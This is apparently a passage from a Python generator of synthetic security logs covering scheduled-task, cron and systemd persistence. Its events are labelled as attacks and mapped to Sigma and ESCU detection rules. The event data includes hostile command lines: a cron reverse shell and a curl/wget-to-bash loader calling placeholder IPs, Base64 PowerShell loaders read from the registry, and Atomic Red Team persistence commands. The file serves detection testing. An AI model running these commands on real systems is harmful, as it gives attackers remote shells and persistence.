    sc = "Ransomware staging over PsExec: SYSTEM start-up task running a ProgramData DLL under a Windows-looking name"
    for i, h in enumerate(["cv-lp-sql01", "cv-lp-erp-app02", "cv-lp-print01", "cv-lp-rds01"]):
        schtasks_create(at(5, 2, 14 + 3 * i), h, SYSTEM,
                        'schtasks /create /tn "\\Microsoft\\Windows\\Maintenance\\WinSAT-Sync" /tr "rundll32.exe '
                        'C:\\ProgramData\\winsat\\wsync.dll,Start" /sc onstart /ru SYSTEM /f', CMD,
                        'cmd /c "C:\\Windows\\Temp\\s.bat"', "malicious", "attack", sc, gparent="PSEXESVC.exe")
    # 5. Unannounced assumed-breach test by the external testers (Atomic Red Team command lines, defaults).
    h = "cv-lp-ws0122"
    pt = "CORVANE\\pt-rhodes"
    sc = "Unannounced assumed-breach test: Atomic Red Team T1053.005 #1 (logon and start-up tasks)"
    t = at(9, 14, 2)
    schtasks_create(t, h, pt, 'schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"', CMD,
                    '"C:\\Windows\\system32\\cmd.exe" /c ""C:\\Tools\\atomics\\T1053.005\\run1.cmd""', "malicious",
                    "attack", sc)
    schtasks_create(t + dt.timedelta(seconds=2), h, pt,
                    'schtasks /create /tn "T1053_005_OnStartup" /sc onstart /ru system /tr "cmd.exe /c calc.exe"', CMD,
                    '"C:\\Windows\\system32\\cmd.exe" /c ""C:\\Tools\\atomics\\T1053.005\\run1.cmd""', "malicious",
                    "attack", sc)
    sc = "Unannounced assumed-breach test: Atomic Red Team T1053.005 #2 (local one-time task)"
    schtasks_create(at(9, 14, 6), h, pt, 'SCHTASKS /Create /SC ONCE /TN spawn /TR C:\\windows\\system32\\cmd.exe /ST 20:10',
                    CMD, '"C:\\Windows\\system32\\cmd.exe"', "malicious", "attack", sc)
    sc = "Unannounced assumed-breach test: Atomic Red Team T1053.005 #3 (remote task, default arguments)"
    schtasks_create(at(9, 14, 9), h, pt, 'SCHTASKS /Create /S localhost /RU DOMAIN\\user /RP At0micStrong /TN "Atomic '
                    'task" /TR "C:\\windows\\system32\\cmd.exe" /SC daily /ST 20:10', CMD,
                    '"C:\\Windows\\system32\\cmd.exe"', "malicious", "attack", sc, register=False)
    sc = "Unannounced assumed-breach test: Atomic Red Team T1053.005 #7 (Base64 command stored in the registry)"
    schtasks_create(at(9, 14, 13), h, pt,
                    'schtasks.exe /Create /F /TN "ATOMIC-T1053.005" /TR "cmd /c start /min \\"\\" powershell.exe '
                    '-Command IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('
                    '(Get-ItemProperty -Path HKCU:\\\\SOFTWARE\\\\ATOMIC-T1053.005).test)))" /sc daily /st 07:45', CMD,
                    'cmd.exe /c reg add HKCU\\SOFTWARE\\ATOMIC-T1053.005 /v test /t REG_SZ /d cGluZyAxMjcuMC4wLjE= /f '
                    '& schtasks.exe /Create /F /TN "ATOMIC-T1053.005" /TR "cmd /c start /min \\"\\" powershell.exe '
                    '-Command IEX(...)" /sc daily /st 07:45', "malicious", "attack", sc)
    sc = "Unannounced assumed-breach test: Atomic Red Team T1053.002 #1 (at /interactive)"
    proc(at(9, 14, 17), h, pt, AT_EXE, "at 13:20 /interactive cmd", CMD, '"C:\\Windows\\system32\\cmd.exe"',
         "malicious", "attack", sc)
    sc = "Unannounced assumed-breach test: Atomic Red Team cleanup (schtasks /delete)"
    for k, name in enumerate(("T1053_005_OnLogon", "T1053_005_OnStartup", "spawn", "ATOMIC-T1053.005")):
        proc(at(9, 14, 31, 2 * k), h, pt, SCHTASKS, 'schtasks /delete /tn %s /f' % (
            '"%s"' % name if "-" in name else name), CMD, '"C:\\Windows\\system32\\cmd.exe"', "malicious", "attack", sc)
        task(at(9, 14, 31, 2 * k + 1), h, "deleted", "\\" + name, "cmd.exe", "/c calc.exe", pt, "malicious",
             "attack", sc, by=pt)
    # Linux part of the same test on the Grafana host (sudo to root).
    h = "cv-lx-grafana01"
    sc = "Unannounced assumed-breach test: Atomic Red Team T1053.003 #1 (replace crontab with referenced file)"
    t = at(9, 15, 40)
    lx(t, h, "pt-rhodes", "malicious", "attack", sc, ["crontab", "-l"], "/usr/bin/crontab", "cron_exec", uid="root",
       cwd="/tmp")
    lx(t + dt.timedelta(seconds=1), h, "pt-rhodes", "malicious", "attack", sc, ["crontab", "/tmp/persistevil"],
       "/usr/bin/crontab", "cron_exec", uid="root", cwd="/tmp")
    lx(t + dt.timedelta(seconds=1, milliseconds=20), h, "pt-rhodes", "malicious", "attack", sc,
       ["crontab", "/tmp/persistevil"], "/usr/bin/crontab", "cron_spool", syscall="rename",
       paths=[("/var/spool/cron/crontabs/", "PARENT"), ("/var/spool/cron/crontabs/", "PARENT"),
              ("tmp.%s" % hid("art", n=6), "DELETE"), ("root", "CREATE")], uid="root", cwd="/tmp")
    sc = "Unannounced assumed-breach test: Atomic Red Team T1053.003 #2 (scripts in cron.daily/hourly/monthly/weekly)"
    for k, folder in enumerate(("cron.daily", "cron.hourly", "cron.monthly", "cron.weekly")):
        lx(t + dt.timedelta(seconds=30 + k), h, "pt-rhodes", "malicious", "attack", sc, ["bash", "-c",
           "echo \"echo 'Hello from Atomic Red Team' > /tmp/atomic.log\" > /etc/%s/persistevil" % folder],
           "/usr/bin/bash", "cron_files", syscall="openat",
           paths=[("/etc/%s/" % folder, "PARENT"), ("/etc/%s/persistevil" % folder, "CREATE")], uid="root",
           cwd="/tmp")
    sc = "Unannounced assumed-breach test: Atomic Red Team T1053.006 #1 (systemd timer art-timer)"
    t = at(9, 15, 47)
    for k, unit in enumerate(("art-timer.service", "art-timer.timer")):
        lx(t + dt.timedelta(seconds=k), h, "pt-rhodes", "malicious", "attack", sc, ["bash", "-c",
           "echo \"[Unit]\" > /etc/systemd/system/%s" % unit], "/usr/bin/bash", "systemd_units", syscall="openat",
           paths=[("/etc/systemd/system/", "PARENT"), ("/etc/systemd/system/" + unit, "CREATE")], uid="root",
           cwd="/tmp")
    for k, args in enumerate((["systemctl", "start", "art-timer.timer"], ["systemctl", "enable", "art-timer.timer"],
                              ["systemctl", "daemon-reload"])):
        lx(t + dt.timedelta(seconds=5 + k), h, "pt-rhodes", "malicious", "attack", sc, args, "/usr/bin/systemctl",
           "systemctl_exec", uid="root", cwd="/tmp")
    sc = "Unannounced assumed-breach test: Atomic Red Team T1053.002 #2 (at now + 1 minute)"
    lx(at(9, 15, 52), h, "pt-rhodes", "malicious", "attack", sc, ["at", "now", "+", "1", "minute"], "/usr/bin/at",
       "at_exec", uid="root", cwd="/tmp")
    # 6. GitLab remote code execution on the DMZ GitLab host.
    h = "cv-lx-gitlab01"
    sc = "GitLab RCE: the git service user installs a curl|sh crontab through crontab -"
    t = at(6, 3, 17)
    lx(t, h, "git", "malicious", "attack", sc, ["crontab", "-l"], "/usr/bin/crontab", "cron_exec", auid="unset",
       uid="git", cwd="/var/opt/gitlab/gitlab-rails/working")
    lx(t + dt.timedelta(milliseconds=40), h, "git", "malicious", "attack", sc, ["crontab", "-"], "/usr/bin/crontab",
       "cron_exec", auid="unset", uid="git", cwd="/var/opt/gitlab/gitlab-rails/working")
    lx(t + dt.timedelta(milliseconds=90), h, "git", "malicious", "attack", sc, ["crontab", "-"], "/usr/bin/crontab",
       "cron_spool", syscall="rename", paths=[("/var/spool/cron/crontabs/", "PARENT"),
                                              ("/var/spool/cron/crontabs/", "PARENT"),
                                              ("tmp.%s" % hid("gitcr", n=6), "DELETE"), ("git", "CREATE")],
       auid="unset", uid="git", cwd="/var/opt/gitlab/gitlab-rails/working")
    sc = "GitLab RCE after privilege escalation: reverse-shell cron file named like a GitLab package file"
    t = at(6, 3, 52)
    lx(t, h, "git", "malicious", "attack", sc, ["bash", "-c", "echo '*/15 * * * * root /bin/bash -c \"bash -i >& "
       "/dev/tcp/203.0.113.47/8443 0>&1\"' > /etc/cron.d/gitlab-logrotate"], "/usr/bin/bash", "cron_exec_shell",
       auid="unset", uid="root", cwd="/tmp")
    lx(t + dt.timedelta(milliseconds=5), h, "git", "malicious", "attack", sc, ["bash", "-c", "echo"],
       "/usr/bin/bash", "cron_files", syscall="openat", paths=[("/etc/cron.d/", "PARENT"),
                                                               ("/etc/cron.d/gitlab-logrotate", "CREATE")],
       auid="unset", uid="root", cwd="/tmp")
    sc = "GitLab RCE after privilege escalation: a gitlab-sidekiq-helper service started and enabled"
    t = at(6, 3, 58)
    lx(t, h, "git", "malicious", "attack", sc, ["cp", "/tmp/.s/helper.service",
       "/etc/systemd/system/gitlab-sidekiq-helper.service"], "/usr/bin/cp", "systemd_units", syscall="openat",
       paths=[("/etc/systemd/system/", "PARENT"), ("/etc/systemd/system/gitlab-sidekiq-helper.service", "CREATE")],
       auid="unset", uid="root", cwd="/tmp")
    lx(t + dt.timedelta(seconds=2), h, "git", "malicious", "attack", sc,
       ["systemctl", "enable", "gitlab-sidekiq-helper.service"], "/usr/bin/systemctl", "systemctl_exec",
       auid="unset", uid="root", cwd="/tmp")
    lx(t + dt.timedelta(seconds=3), h, "git", "malicious", "attack", sc,
       ["systemctl", "start", "gitlab-sidekiq-helper.service"], "/usr/bin/systemctl", "systemctl_exec",
       auid="unset", uid="root", cwd="/tmp")
    # 7. SSH brute force on the EDI gateway (exposed to suppliers): miner persistence in cron.
    h = "cv-lx-edi01"
    sc = "SSH brute force on the EDI gateway: 8220-style curl||wget loader in a cron.d file named like cronie's"
    t = at(11, 1, 33)
    lx(t, h, "edi-acme", "malicious", "attack", sc, ["bash", "-c", "echo '*/5 * * * * root (curl -s "
       "http://198.51.100.73/e.sh||wget -q -O- http://198.51.100.73/e.sh)|bash' > /etc/cron.d/0anacron-sync"],
       "/usr/bin/bash", "cron_files", syscall="openat", paths=[("/etc/cron.d/", "PARENT"),
                                                               ("/etc/cron.d/0anacron-sync", "CREATE")],
       uid="root", cwd="/root")
    sc = "SSH brute force on the EDI gateway: @reboot line appended to /etc/crontab, then crond restarted"
    lx(t + dt.timedelta(seconds=9), h, "edi-acme", "malicious", "attack", sc, ["bash", "-c",
       "echo '@reboot root /usr/local/lib/.cache/kworkerd' >> /etc/crontab"], "/usr/bin/bash", "cron_files",
       syscall="openat", paths=[("/etc/", "PARENT"), ("/etc/crontab", "NORMAL")], uid="root", cwd="/root")
    lx(t + dt.timedelta(seconds=14), h, "edi-acme", "malicious", "attack", sc, ["systemctl", "restart", "crond"],
       "/usr/bin/systemctl", "systemctl_exec", uid="root", cwd="/root")
    # 8. OT intrusion through the Tolmarsh jump host with the OT engineer's stolen account.
    h = "cv-tm-otjump01"
    ot = "CORVANE\\cva-snaidoo"
    sc = "OT intrusion: the stolen OT engineer account registers a Siemens-looking SYSTEM start-up task on the jump host"
    schtasks_create(at(10, 22, 41), h, ot,
                    'schtasks /create /tn "\\Siemens\\Automation Update Check" /tr "C:\\ProgramData\\Siemens\\Automation'
                    '\\Logfiles\\sauhelper.exe" /sc onstart /ru SYSTEM /rl highest /f', CMD,
                    '"C:\\Windows\\system32\\cmd.exe"', "malicious", "attack", sc)
    sc = "OT intrusion: remote one-time SYSTEM tasks at 00:00 on two HMIs from the jump host"
    for i, tgt in enumerate(["cv-tm-hmi01", "cv-tm-hmi02"]):
        t = at(10, 22, 55 + i)
        schtasks_create(t, h, ot, 'schtasks /create /s %s /u CORVANE\\cva-snaidoo /p * /tn "\\Siemens\\Automation Update '
                        'Check" /tr "C:\\Windows\\Temp\\sauhelper.exe" /sc once /st 00:00 /ru SYSTEM /f' % tgt, CMD,
                        '"C:\\Windows\\system32\\cmd.exe"', "malicious", "attack", sc)
        run(at(11, 0, 0, 1 + i), tgt, "\\Siemens\\Automation Update Check", "C:\\Windows\\Temp\\sauhelper.exe",
            "C:\\Windows\\Temp\\sauhelper.exe", SYSTEM, "malicious", "attack",
            "OT intrusion: the one-time task starts the payload from Windows\\Temp on the HMI")
    sc = "OT intrusion: a VBScript beacon task in Users\\Public on the jump host, named like an HMI job"
    schtasks_create(at(10, 23, 20), h, ot, 'schtasks /create /tn "OT\\HMI Screen Refresh" /tr "wscript.exe //B '
                    'C:\\Users\\Public\\Libraries\\hmisync.vbs" /sc minute /mo 30 /f', CMD,
                    '"C:\\Windows\\system32\\cmd.exe"', "malicious", "attack", sc)
    for k in range(6):
        run(at(10, 23, 50) + dt.timedelta(minutes=30 * k), h, "\\OT\\HMI Screen Refresh",
            "C:\\Windows\\System32\\wscript.exe", "wscript.exe //B C:\\Users\\Public\\Libraries\\hmisync.vbs", ot,
            "malicious", "attack", "OT intrusion: runs of the VBScript beacon task (every 30 minutes until contained)")
    # 9. Empire persistence on the MES server (SYSTEM), found in the same OT collection.
    sc = "OT intrusion: PowerShell Empire persistence/elevated/schtasks on the Weyburn MES server"
    h = "cv-wb-mes01"
    schtasks_create(at(11, 2, 8), h, ot,
                    'schtasks.exe /Create /F /RU system /SC DAILY /ST 09:00 /TN Updater /TR "powershell.exe -NonI -W '
                    'hidden -c \\"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKLM:\\Software'
                    '\\Microsoft\\Network debug).debug)))\\""', PS, "powershell.exe -NoP -sta -NonI -W Hidden -Enc "
                    "SQBGACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMAVgBlAHIAcwBpAG8AbgAuAE0AYQBqAG8AcgAgAC0AZwBlACAAMwApAHsA",
                    "malicious", "attack", sc)


# ---------------------------------------------------------------------------------------------- rule identities
# SigmaHQ (seed-era) ids, files, levels and tags; ESCU ids, risk and techniques (from rules_t1053.json).
SIGMA = {
    'Interactive AT Job': ('60fc936d-2eb0-4543-8a13-911c750a1dfc', 'proc_creation_win_at_interactive_execution.yml', 'high', ['attack.privilege-escalation', 'attack.t1053.002']),
    'Scheduled Task Creation Via Schtasks.EXE': ('92626ddd-662c-49e3-ac59-f6535f12d189', 'proc_creation_win_schtasks_creation.yml', 'low', ['attack.execution', 'attack.persistence', 'attack.privilege-escalation', 'attack.t1053.005', 'attack.s0111']),
    'Suspicious Scheduled Task Creation Involving Temp Folder': ('39019a4e-317f-4ce3-ae63-309a8c6b53c5', 'proc_creation_win_schtasks_creation_temp_folder.yml', 'high', ['attack.execution', 'attack.persistence', 'attack.t1053.005']),
    'Suspicious Schtasks From Env Var Folder': ('81325ce1-be01-4250-944f-b4789644556f', 'proc_creation_win_schtasks_env_folder.yml', 'medium', ['attack.execution', 'attack.t1053.005']),
    'Schtasks From Suspicious Folders': ('8a8379b8-780b-4dbf-b1e9-31c8d112fefb', 'proc_creation_win_schtasks_folder_combos.yml', 'high', ['attack.execution', 'attack.t1053.005']),
    'Suspicious Scheduled Task Name As GUID': ('ff2fff64-4cd6-4a2b-ba7d-e28a30bbe66b', 'proc_creation_win_schtasks_guid_task_name.yml', 'medium', ['attack.execution', 'attack.t1053.005']),
    'Uncommon One Time Only Scheduled Task At 00:00': ('970823b7-273b-460a-8afc-3a6811998529', 'proc_creation_win_schtasks_one_time_only_midnight_task.yml', 'high', ['attack.execution', 'attack.persistence', 'attack.privilege-escalation', 'attack.t1053.005']),
    'Suspicious Schtasks Schedule Types': ('24c8392b-aa3c-46b7-a545-43f71657fe98', 'proc_creation_win_schtasks_schedule_type.yml', 'high', ['attack.execution', 'attack.t1053.005']),
    'Suspicious Schtasks Schedule Type With High Privileges': ('7a02e22e-b885-4404-b38b-1ddc7e65258a', 'proc_creation_win_schtasks_schedule_type_system.yml', 'medium', ['attack.execution', 'attack.t1053.005']),
    'Suspicious Command Patterns In Scheduled Task Creation': ('f2c64357-b1d2-41b7-849f-34d2682c0fad', 'proc_creation_win_schtasks_susp_pattern.yml', 'high', ['attack.execution', 'attack.t1053.005']),
    'Schtasks Creation Or Modification With SYSTEM Privileges': ('89ca78fd-b37c-4310-b3d3-81a023f83936', 'proc_creation_win_schtasks_system.yml', 'high', ['attack.execution', 'attack.persistence', 'attack.t1053.005']),
    'Scheduled Task Creation From Potential Suspicious Parent Location': ('9494479d-d994-40bf-a8b1-eea890237021', 'proc_creation_win_schtasks_creation_from_susp_parent.yml', 'medium', ['attack.execution', 'attack.persistence', 'attack.privilege-escalation', 'attack.t1053.005']),
    'HackTool - Default PowerSploit/Empire Scheduled Task Creation': ('56c217c3-2de2-479b-990f-5c109ba8458f', 'proc_creation_win_hktl_powersploit_empire_default_schtasks.yml', 'high', ['attack.execution', 'attack.persistence', 'attack.privilege-escalation', 'attack.s0111', 'attack.g0022', 'attack.g0060', 'attack.t1053.005', 'attack.t1059.001']),
    'Scheduled Task Executing Encoded Payload from Registry': ('c4eeeeae-89f4-43a7-8b48-8d1bdfa66c78', 'proc_creation_win_schtasks_reg_loader_encoded.yml', 'high', ['attack.execution', 'attack.persistence', 'attack.t1053.005', 'attack.t1059.001']),
    'Suspicious Scheduled Task Creation': ('3a734d25-df5c-4b99-8034-af1ddb5883a4', 'win_security_susp_scheduled_task_creation.yml', 'high', ['attack.execution', 'attack.privilege-escalation', 'attack.persistence', 'attack.t1053.005']),
    'Suspicious Scheduled Task Update': ('614cf376-6651-47c4-9dcc-6b9527f749f4', 'win_security_susp_scheduled_task_update.yml', 'high', ['attack.execution', 'attack.privilege-escalation', 'attack.persistence', 'attack.t1053.005']),
    'Scheduled Task Executed Uncommon LOLBIN': ('f0767f15-0fb3-44b9-851e-e8d9a6d0005d', 'win_taskscheduler_lolbin_execution_via_task_scheduler.yml', 'medium', ['attack.persistence', 'attack.t1053.005']),
    'Scheduled Task Executed From A Suspicious Location': ('424273ea-7cf8-43a6-b712-375f925e481f', 'win_taskscheduler_execution_from_susp_locations.yml', 'medium', ['attack.persistence', 'attack.t1053.005']),
}
ESCU = {
    'Linux Add Files In Known Crontab Directories': ('023f3452-5f27-11ec-bf00-acde48001122', {'type': 'Anomaly', 'confidence': 50, 'impact': 50, 'risk_score_confidence_x_impact_div_100': 25}, ['T1053', 'T1053.003']),
    'Linux Adding Crontab Using List Parameter': ('52f6d751-1fd4-4c74-a4c9-777ecfeb5c58', {'type': 'Hunting', 'confidence': 50, 'impact': 50, 'risk_score_confidence_x_impact_div_100': 25}, ['T1053', 'T1053.003']),
    'Linux At Application Execution': ('bf0a378e-5f3c-11ec-a6de-acde48001122', {'type': 'Anomaly', 'confidence': 30, 'impact': 30, 'risk_score_confidence_x_impact_div_100': 9}, ['T1053', 'T1053.002']),
    'Linux Auditd At Application Execution': ('9f306e0a-1c36-469e-8892-968ca12470dd', {'type': 'Anomaly', 'confidence': 30, 'impact': 30, 'risk_score_confidence_x_impact_div_100': 9}, ['T1053', 'T1053.002']),
    'Linux Auditd Edit Cron Table Parameter': ('f4bb7321-7e64-4d1e-b1aa-21f8b019a91f', {'type': 'TTP', 'confidence': 80, 'impact': 80, 'risk_score_confidence_x_impact_div_100': 64}, ['T1053', 'T1053.003']),
    'Linux Auditd Possible Append Cronjob Entry On Existing Cronjob File': ('fea71cf0-fa10-4ef6-9202-9682b2e0c477', {'type': 'Hunting', 'confidence': 70, 'impact': 70, 'risk_score_confidence_x_impact_div_100': 49}, ['T1053', 'T1053.003']),
    'Linux Auditd Service Restarted': ('8eb3e858-18d3-44a4-a514-52cfa39f154a', {'type': 'Anomaly', 'confidence': 50, 'impact': 50, 'risk_score_confidence_x_impact_div_100': 25}, ['T1053', 'T1053.006']),
    'Linux Edit Cron Table Parameter': ('0d370304-5f26-11ec-a4bb-acde48001122', {'type': 'Hunting', 'confidence': 30, 'impact': 30, 'risk_score_confidence_x_impact_div_100': 9}, ['T1053', 'T1053.003']),
    'Linux Possible Append Cronjob Entry on Existing Cronjob File': ('b5b91200-5f27-11ec-bb4e-acde48001122', {'type': 'Hunting', 'confidence': 70, 'impact': 70, 'risk_score_confidence_x_impact_div_100': 49}, ['T1053', 'T1053.003']),
    'Linux Service File Created In Systemd Directory': ('c7495048-61b6-11ec-9a37-acde48001122', {'type': 'Anomaly', 'confidence': 80, 'impact': 80, 'risk_score_confidence_x_impact_div_100': 64}, ['T1053', 'T1053.006']),
    'Linux Service Restarted': ('084275ba-61b8-11ec-8d64-acde48001122', {'type': 'Anomaly', 'confidence': 50, 'impact': 50, 'risk_score_confidence_x_impact_div_100': 25}, ['T1053', 'T1053.006']),
    'Linux Service Started Or Enabled': ('e0428212-61b7-11ec-88a3-acde48001122', {'type': 'Anomaly', 'confidence': 70, 'impact': 60, 'risk_score_confidence_x_impact_div_100': 42}, ['T1053', 'T1053.006']),
    'Scheduled Task Creation on Remote Endpoint using At': ('4be54858-432f-11ec-8209-3e22fbd008af', {'type': 'TTP', 'confidence': 60, 'impact': 90, 'risk_score_confidence_x_impact_div_100': 54}, ['T1053', 'T1053.002']),
    'Scheduled Task Deleted Or Created via CMD': ('d5af132c-7c17-439c-9d31-13d55340f36c', {'type': 'TTP', 'confidence': 80, 'impact': 70, 'risk_score_confidence_x_impact_div_100': 56}, ['T1053', 'T1053.005']),
    'Scheduled Task Initiation on Remote Endpoint': ('95cf4608-4302-11ec-8194-3e22fbd008af', {'type': 'TTP', 'confidence': 60, 'impact': 90, 'risk_score_confidence_x_impact_div_100': 54}, ['T1053', 'T1053.005']),
    'Schtasks Run Task On Demand': ('bb37061e-af1f-11eb-a159-acde48001122', {'type': 'TTP', 'confidence': 80, 'impact': 60, 'risk_score_confidence_x_impact_div_100': 48}, ['T1053']),
    'Schtasks scheduling job on remote system': ('1297fb80-f42a-4b4a-9c8a-88c066237cf6', {'type': 'TTP', 'confidence': 90, 'impact': 70, 'risk_score_confidence_x_impact_div_100': 63}, ['T1053', 'T1053.005']),
    'Schtasks used for forcing a reboot': ('1297fb80-f42a-4b4a-9c8a-88c066437cf6', {'type': 'TTP', 'confidence': 80, 'impact': 70, 'risk_score_confidence_x_impact_div_100': 56}, ['T1053', 'T1053.005']),
    'Suspicious Scheduled Task from Public Directory': ('7feb7972-7ac3-11eb-bac8-acde48001122', {'type': 'Anomaly', 'confidence': 50, 'impact': 70, 'risk_score_confidence_x_impact_div_100': 35}, ['T1053', 'T1053.005']),
    'Svchost LOLBAS Execution Process Spawn': ('09e5c72a-4c0d-11ec-aa29-3e22fbd008af', {'type': 'TTP', 'confidence': 60, 'impact': 90, 'risk_score_confidence_x_impact_div_100': 54}, ['T1053', 'T1053.005']),
    'WinEvent Scheduled Task Created to Spawn Shell': ('203ef0ea-9bd8-11eb-8201-acde48001122', {'type': 'TTP', 'confidence': 100, 'impact': 70, 'risk_score_confidence_x_impact_div_100': 70}, ['T1053', 'T1053.005']),
    'Windows Scheduled Task Created Via XML': ('7e03b682-3965-4598-8e91-a60a40a3f7e4', {'type': 'TTP', 'confidence': 70, 'impact': 70, 'risk_score_confidence_x_impact_div_100': 49}, ['T1053', 'T1053.005']),
    'Windows Scheduled Task with Highest Privileges': ('2f15e1a4-0fc2-49dd-919e-cbbe60699218', {'type': 'TTP', 'confidence': 80, 'impact': 80, 'risk_score_confidence_x_impact_div_100': 64}, ['T1053', 'T1053.005']),
    'Windows Schtasks Create Run As System': ('41a0e58e-884c-11ec-9976-acde48001122', {'type': 'TTP', 'confidence': 60, 'impact': 80, 'risk_score_confidence_x_impact_div_100': 48}, ['T1053', 'T1053.005']),
}


# ---------------------------------------------------------------------------------------------- renderers
def utc_z(t, digits=7):
    frac = "%06d" % t.microsecond
    frac = (frac + "0" * digits)[:digits]
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + frac + "Z"


COUNTERS = {}


def counter(key, base_span=900000, step=(1, 40)):
    if key not in COUNTERS:
        COUNTERS[key] = 100000 + int(hid("ctr", *key, n=6), 16) % base_span
    COUNTERS[key] += rng.randrange(*step)
    return COUNTERS[key]


def split_user(u):
    if u == SYSTEM:
        return "NT AUTHORITY", "SYSTEM"
    if "\\" in u:
        return tuple(u.split("\\", 1))
    return "", u


def pguid(host, pid, t):
    h = hid("pg", host, pid, t)
    return "{%s-%s-%s-%s-%s}" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:32])


def hashes(image):
    h = hid("img", image.lower(), n=104).upper()
    return "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % (h[:40], h[40:72], hid("img256", image.lower(), n=64).upper(),
                                                     h[72:104])


PE = {"schtasks.exe": ("10.0.22621.1 (WinBuild.160101.0800)", "Task Scheduler Configuration Tool"),
      "at.exe": ("10.0.22621.1 (WinBuild.160101.0800)", "Schedule service command line interface"),
      "cscript.exe": ("5.812.10240.16384", "Microsoft ® Console Based Script Host"),
      "wscript.exe": ("5.812.10240.16384", "Microsoft ® Windows Based Script Host"),
      "rundll32.exe": ("10.0.22621.1 (WinBuild.160101.0800)", "Windows host process (Rundll32)"),
      "regsvr32.exe": ("10.0.22621.1 (WinBuild.160101.0800)", "Microsoft(C) Register Server"),
      "forfiles.exe": ("10.0.20348.1 (WinBuild.160101.0800)", "ForFiles - Executes a command on selected files"),
      "powershell.exe": ("10.0.22621.2506 (WinBuild.160101.0800)", "Windows PowerShell"),
      "cmd.exe": ("10.0.22621.2506 (WinBuild.160101.0800)", "Windows Command Processor"),
      "wuauclt.exe": ("10.0.22621.2506 (WinBuild.160101.0800)", "Windows Update")}


def pe_info(image):
    name = image.split("\\")[-1].lower()
    if name in PE:
        return PE[name] + ("Microsoft® Windows® Operating System", "Microsoft Corporation", name)
    return ("-", "-", "-", "-", "-")


def sysmon1_fields(e):
    fv, desc, prod, comp, orig = pe_info(e["image"])
    return [("RuleName", "-"), ("UtcTime", e["t"].strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (e["t"].microsecond // 1000)),
            ("ProcessGuid", pguid(e["host"], e["pid"], e["t"])), ("ProcessId", str(e["pid"])), ("Image", e["image"]),
            ("FileVersion", fv), ("Description", desc), ("Product", prod), ("Company", comp), ("OriginalFileName", orig),
            ("CommandLine", e["cmd"]), ("CurrentDirectory", e["cwd"]), ("User", e["user"]),
            ("LogonGuid", "{%s}" % guid("logon", e["host"], e["user"])),
            ("LogonId", "0x3e7" if e["user"] == SYSTEM else "0x%x" % (0x100000 + int(hid("lid", e["host"], e["user"], n=5), 16))),
            ("TerminalSessionId", "0" if e["user"] == SYSTEM or e["parent"] == SVCHOST else "1"),
            ("IntegrityLevel", e["integrity"]), ("Hashes", hashes(e["image"])),
            ("ParentProcessGuid", pguid(e["host"], e["ppid"], e["pcmd"])), ("ParentProcessId", str(e["ppid"])),
            ("ParentImage", e["parent"]), ("ParentCommandLine", e["pcmd"]), ("ParentUser", e["puser"])]


def system_xml(provider, pguid_, eid, version, level, task_, opcode, keywords, t, rec, pid, tid, channel, host, sec,
               activity=None):
    corr = "<Correlation ActivityID='{%s}'/>" % activity if activity else "<Correlation/>"
    return ("<System><Provider Name='%s' Guid='{%s}'/><EventID>%s</EventID><Version>%d</Version><Level>%d</Level>"
            "<Task>%d</Task><Opcode>%d</Opcode><Keywords>%s</Keywords><TimeCreated SystemTime='%s'/>"
            "<EventRecordID>%d</EventRecordID>%s<Execution ProcessID='%d' ThreadID='%d'/><Channel>%s</Channel>"
            "<Computer>%s</Computer>%s</System>" % (provider, pguid_, eid, version, level, task_, opcode, keywords,
                                                    utc_z(t), rec, corr, pid, tid, channel, fqdn(host), sec))


def data_xml(pairs, name=None):
    inner = "".join("<Data Name='%s'>%s</Data>" % (k, escape(v)) for k, v in pairs)
    return "<EventData Name='%s'>%s</EventData>" % (name, inner) if name else "<EventData>%s</EventData>" % inner


EV_NS = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>"
SYSMON_GUID = "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
SEC_GUID = "54849625-5478-4994-A5BA-3E3B0328C30D"
TS_GUID = "DE7B24EA-73C8-4A09-985D-5BDADCFA9017"
TS_CH = "Microsoft-Windows-TaskScheduler/Operational"
SYSMON_CH = "Microsoft-Windows-Sysmon/Operational"


def xml_sysmon1(e):
    rec = counter((e["host"], "sysmon"))
    return EV_NS + system_xml("Microsoft-Windows-Sysmon", SYSMON_GUID, 1, 5, 4, 1, 0, "0x8000000000000000", e["t"], rec,
                              3120, 4410, SYSMON_CH, e["host"], "<Security UserID='S-1-5-18'/>") + \
        data_xml(sysmon1_fields(e)) + "</Event>"


def subject(e):
    by = e["user"]
    dom, name = split_user(by)
    if name.endswith("$"):
        return [("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", name), ("SubjectDomainName", dom),
                ("SubjectLogonId", "0x3e7")]
    if by == SYSTEM:
        return [("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", e["host"].upper() + "$"),
                ("SubjectDomainName", DOMAIN), ("SubjectLogonId", "0x3e7")]
    return [("SubjectUserSid", sid_of(name)), ("SubjectUserName", name), ("SubjectDomainName", dom or DOMAIN),
            ("SubjectLogonId", "0x%x" % (0x100000 + int(hid("lid", e["host"], name, n=5), 16)))]


def client_fields(e):
    cpid = e["client_pid"] if e["client_pid"] is not None else (e["initiator"] or {}).get("pid", 0)
    return [("ClientProcessStartKey", str(int(hid("cpsk", e["host"], cpid, n=12), 16)) if cpid else "0"),
            ("ClientProcessId", str(cpid)), ("ParentProcessId", str(int(hid("ppi", e["host"], cpid, n=3), 16)) if cpid
                                             else "0"),
            ("RpcCallClientLocality", "0"), ("FQDN", fqdn(e["host"]).upper() if False else fqdn(e["host"]))]


def xml_security_task(e):
    eid = {"created": 4698, "updated": 4702, "deleted": 4699}[e["op"]]
    rec = counter((e["host"], "security"), step=(20, 400))
    content_key = "TaskContentNew" if eid == 4702 else "TaskContent"
    pairs = subject(e) + [("TaskName", e["name"]), (content_key, e["xml"])] + client_fields(e)
    return EV_NS + system_xml("Microsoft-Windows-Security-Auditing", SEC_GUID, eid, 1, 0, 12804, 0, "0x8020000000000000",
                              e["t"], rec, 712, 2236 + rec % 900, "Security", e["host"], "<Security/>") + \
        data_xml(pairs) + "</Event>"


